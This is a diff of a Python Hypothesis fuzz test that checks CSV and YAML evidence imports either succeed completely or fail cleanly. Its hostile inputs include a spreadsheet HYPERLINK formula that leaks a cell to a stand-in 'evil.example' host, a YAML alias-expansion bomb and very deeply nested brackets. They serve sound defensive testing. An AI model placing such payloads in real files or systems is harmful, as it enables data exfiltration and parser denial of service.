@@ -4,8 +4,10 @@ Every case must end in one of two ways:
 - `ImportFailed`, every message naming the file, and the database unchanged;
 - a correct import: +created observations (+notes), one batch, and nothing else.
 Never another exception, never a partial write. Files built only from valid values in
-UTF-8 must import; malformed text, random bytes, Latin-1/UTF-16, huge fields, shuffled and
-extra columns and formula-like cells ("=HYPERLINK(...)") are thrown at it too.
+UTF-8 must import (free text up to its 16 KiB limit, any source kind); malformed text, random
+bytes, Latin-1/UTF-16, huge fields, shuffled, extra and repeated columns, CR-only line
+endings, formula-like cells ("=HYPERLINK(...)"), ANSI escapes, compact and week dates,
+host-less URLs, YAML aliases, repeated keys and deep nesting are thrown at it too.
 """
 
 from __future__ import annotations
@@ -13,6 +15,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import os
 import uuid
 from dataclasses import dataclass
 from pathlib import Path
@@ -26,18 +29,19 @@ from hypothesis import strategies as st
 from oip.catalogue.schema import Catalogue
 from oip.evidence.actions import ImportFailed, ImportResult, import_evidence
 from oip.evidence.models import ContextNote, ImportBatch, Observation, Source
-from oip.evidence.records import CSV_COLUMNS, REQUIRED_CSV_COLUMNS
+from oip.evidence.records import ACCEPTED_CSV_COLUMNS, REQUIRED_CSV_COLUMNS
+from oip.vocabulary import OBSERVATION_STATUSES, SOURCE_KINDS
 
 pytestmark = pytest.mark.django_db
 
 FUZZ = settings(
-    max_examples=int(__import__("os").environ.get("OIP_FUZZ_EXAMPLES", "50")),
+    max_examples=int(os.environ.get("OIP_FUZZ_EXAMPLES", "50")),
     deadline=None,
     suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
 )
 TODAY = dt.date(2026, 1, 1)
 COUNTRIES = ["AL", "BA", "XK", "ME", "MK", "RS"]
-STATUSES = ["met", "partial", "not_met", "not_applicable"]
+STATUSES = list(OBSERVATION_STATUSES)
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
     "=1+1",
@@ -48,7 +52,9 @@ FORMULAS = [
     "\t=1",
 ]
 HUGE = 200_000  # longer than the csv module's field limit (131,072)
-BIG = 20_000  # a long YAML scalar (PyYAML is pure Python: keep it affordable)
+BIG = 16_000  # a long free text, within its limit (16 KiB)
+OVER = 16 * 1024 + 1  # one byte over the free-text limit
+ESCAPE = "\x1b[31mred\x1b[0m"  # an ANSI escape: colours a terminal that prints it
 
 
 def benchmark_ids(catalogue: Catalogue) -> list[str]:
@@ -69,7 +75,11 @@ bad_values = st.one_of(
     st.text(max_size=30),
     st.sampled_from(FORMULAS),
     st.just("x" * HUGE),
-    st.sampled_from(["2999-01-01", "2024-13-45", "yesterday", "ZZ", "me", "\x00", "n.d."]),
+    st.sampled_from(
+        ["2999-01-01", "2024-13-45", "yesterday", "ZZ", "me", "\x00", "n.d.", "20240101"]
+    ),
+    st.sampled_from(["2024-W01-1", "https://", "https:///x", ESCAPE, "a\rb", "secret"]),
+    st.just("x" * OVER),
     valid_text.map(lambda t: t + "\x00" + t),
     st.binary(max_size=20).map(lambda b: b.decode("latin-1")),
 )
@@ -131,13 +141,17 @@ class CsvCase:
 
 @st.composite
 def csv_files(draw: st.DrawFn, benchmarks: list[str]) -> CsvCase:
-    optional = [c for c in CSV_COLUMNS if c not in REQUIRED_CSV_COLUMNS]
+    optional = [c for c in ACCEPTED_CSV_COLUMNS if c not in REQUIRED_CSV_COLUMNS]
     columns = list(REQUIRED_CSV_COLUMNS) + draw(st.lists(st.sampled_from(optional), unique=True))
     if "source_url" not in columns and "source_publisher" not in columns:
         columns.append("source_url")
     columns = draw(st.permutations(columns))
     clean = draw(st.booleans())  # half the files only ever hold valid values
-    extra = [] if clean else draw(st.lists(st.sampled_from(["extra", "Country", " "]), max_size=2))
+    extra = (
+        []
+        if clean
+        else draw(st.lists(st.sampled_from(["extra", "Country", " ", columns[0]]), max_size=2))
+    )
     header = list(columns) + extra
     valid = not extra
     rows: list[list[str]] = []
@@ -151,7 +165,8 @@ def csv_files(draw: st.DrawFn, benchmarks: list[str]) -> CsvCase:
             "source_title": draw(cell_text),
             "source_publisher": draw(cell_text),
             "source_published_on": draw(st.one_of(st.just(""), past_dates.map(str))),
-            "source_excerpt": draw(st.one_of(cell_text, st.just("e" * 5000))),
+            "source_excerpt": draw(st.one_of(cell_text, st.just("e" * BIG))),
+            "source_kind": draw(st.sampled_from(["", *SOURCE_KINDS])),
             "note": draw(st.one_of(st.just(""), cell_text)),
         }
         row = {c: good[c] for c in columns}
@@ -168,6 +183,9 @@ def csv_files(draw: st.DrawFn, benchmarks: list[str]) -> CsvCase:
     writer.writerow(header)
     writer.writerows(rows)
     text = buffer.getvalue()
+    if not clean and rows and draw(st.integers(0, 5)) == 0:  # an old Mac file: CR-only lines
+        text = text.replace("\r\n", "\r")
+        valid = False
     encodings = ["utf-8", "utf-8-sig"] + ([] if clean else ["latin-1", "utf-16", "cp1252"])
     encoding = draw(st.sampled_from(encodings))
     data = text.encode(encoding, errors="replace")
@@ -227,13 +245,17 @@ def test_formula_cells_are_stored_verbatim(tmp_path: Path, catalogue: Catalogue)
 
 
 def source_value(draw: st.DrawFn) -> Any:
-    return {
+    source = {
         "url": "https://example.org/" + draw(st.text("abc123", max_size=8)),
         "title": draw(cell_text),
         "publisher": draw(cell_text),
         "published_on": draw(st.one_of(st.none(), past_dates.map(str))),
         "excerpt": draw(st.one_of(st.just(""), cell_text, st.just("y" * BIG))),
     }
+    kind = draw(st.sampled_from([None, *SOURCE_KINDS]))
+    if kind is not None:
+        source["kind"] = kind
+    return source
 
 
 junk_values = st.recursive(
@@ -243,8 +265,9 @@ junk_values = st.recursive(
         st.integers(),
         st.floats(allow_nan=True),
         st.text(max_size=20),
-        st.just("x" * BIG),
+        st.just("x" * OVER),
         st.sampled_from(FORMULAS),
+        st.sampled_from([ESCAPE, "20240101", "https://"]),
     ),
     lambda children: (
         st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3)
@@ -288,16 +311,29 @@ def yaml_files(draw: st.DrawFn, benchmarks: list[str]) -> YamlCase:
             continue
         records.append(record)
     document: Any = {"observations": records}
-    shape = -1 if clean else draw(st.integers(0, 6))
+    shape = -1 if clean else draw(st.integers(0, 9))
     if shape == 0:
         document = draw(junk_values)
         valid = False
     elif shape == 1:
         document["extra"] = draw(junk_values)
         valid = False
+    elif (
+        shape == 2
+        and len(records) >= 2
+        and all(isinstance(r, dict) and "source" in r for r in records[:2])
+    ):
+        records[1]["source"] = records[0]["source"]  # one object twice: dumped as an alias
+        valid = False
+    elif shape == 3:  # nested deeper than any record needs
+        document["observations"] = [[[[[[[[[[records]]]]]]]]]]
+        valid = False
     text = yaml.safe_dump(
         document, allow_unicode=draw(st.booleans()), width=draw(st.sampled_from([80, 10_000]))
     )
+    if shape == 4:  # a key written twice in one mapping
+        text = "observations: []\n" + text
+        valid = False
     encodings = ["utf-8", "utf-8-sig"] + ([] if clean else ["latin-1", "utf-16"])
     encoding = draw(st.sampled_from(encodings))
     data = text.encode(encoding, errors="replace")
@@ -337,6 +373,10 @@ def test_fuzzed_yaml_imports_all_or_fails_naming_the_file(
                 "observations:\n  - {country: ME, note: caf\xe9}\n".encode("latin-1"),
                 b"\xef\xbb\xbf",
                 b"",
+                b"observations:\n- note: &a [x, x]\n- note: &b [*a, *a]\n- note: [*b, *b]\n",
+                b"observations: " + b"[" * 5000 + b"]" * 5000 + b"\n",
+                b"country,benchmark,status,observed_on,source_title\rME,x,met,2024-01-01,T\r",
+                b"observations:\n- {country: NO, country: NO}\n",
             ]
         ),
     ),
